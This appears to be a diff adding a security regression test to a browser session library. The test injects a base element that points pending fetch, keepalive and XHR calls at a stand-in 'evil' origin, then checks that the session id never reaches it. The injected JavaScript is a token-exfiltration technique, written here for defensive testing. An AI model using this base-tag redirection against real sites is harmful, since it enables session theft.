@@ -12,7 +12,7 @@ from browser.libraries import archive, config
 from browser.listening import BEGIN, Listening, listen, tried
 from browser.site import EVIL_HOST, IDN_HOST, SUB_HOST, Site
 from browser.tabs import Profile, Tab
-from browser.ways import CASES, EVERYWHERE, HOSTILE, INSTALL, OWN, PYODIDE, UNDER, Way, expected
+from browser.ways import ALLOWED, CASES, EVERYWHERE, HOSTILE, INSTALL, OWN, PYODIDE, UNDER, Way, expected
 from browser_finder import CHROMIUM, FIREFOX
 
 PLACES = [
@@ -126,6 +126,51 @@ def test_javascript_is_judged_by_what_it_really_asks(profile: Profile, listening
     got = received[OWN if name == "own" else HOSTILE]
     assert len(got) == 4
     assert [each.text.count(session_id) for each in got] == [1 if name == "own" else 0] * 4
+
+
+SLOW = """
+class Slow(MemoryStorage):
+    may = asyncio.Event()
+    async def get(self, key):
+        await Slow.may.wait()
+        return MemoryStorage.get(self, key)
+from pillion import javascript
+slow = SessionProvider(Client("/api"), storage=Slow(), storage_key="slow").install()
+javascript.install(slow)
+"""
+WAITING = """(evil) => {
+    const base = document.createElement('base');
+    base.href = evil;
+    const turn = { get method() { document.head.append(base); return 'POST' } };
+    const send = (name, init) => fetch('/any/echo?' + name, init).catch(() => {});
+    const post = { method: 'POST', body: 'x' };
+    window.waiting = [send('plain', post), send('keepalive', { ...post, keepalive: true })];
+    const xhr = new XMLHttpRequest();
+    xhr.open('GET', '/any/echo?xhr');
+    waiting.push(new Promise(done => { xhr.onloadend = done; xhr.send() }));
+    waiting.push(send('read', turn));
+    base.remove();
+    waiting.push(send('keepalive and read', Object.create(turn, { keepalive: { value: true }, body: { value: 'x' } })));
+    document.head.append(base);
+}"""
+
+
+@pytest.mark.parametrize("runtime", ["mpy", "py"], ids=["MicroPython", "Pyodide"], indirect=True)
+def test_a_base_element_that_comes_while_calls_wait_leads_the_id_nowhere(
+    profile: Profile, listening: Listening, runtime: str
+) -> None:
+    """They go where they were sent when they were sent."""
+    profile.expect_error("")
+    tab = opened(profile, listening, runtime, False)
+    tab.run(f"exec({SLOW!r}, globals())")
+    tab.page.evaluate(WAITING, listening.origins["evil"] + "/")
+    tab.run("Slow.may.set()")
+    session_id = tab.run("return await slow.ready()")
+    tab.page.evaluate("async () => void await Promise.all(waiting)")
+    received = listening.received()
+    got = {name: sorted(each.query for each in seen if session_id in each.text) for name, seen in received.items()}
+    names = ["keepalive", "keepalive%20and%20read", "plain", "read", "xhr"]
+    assert got == {OWN: names, ALLOWED: [], HOSTILE: []}
 
 
 def opened(profile: Profile, listening: Listening, runtime: str, in_worker: bool) -> Tab:
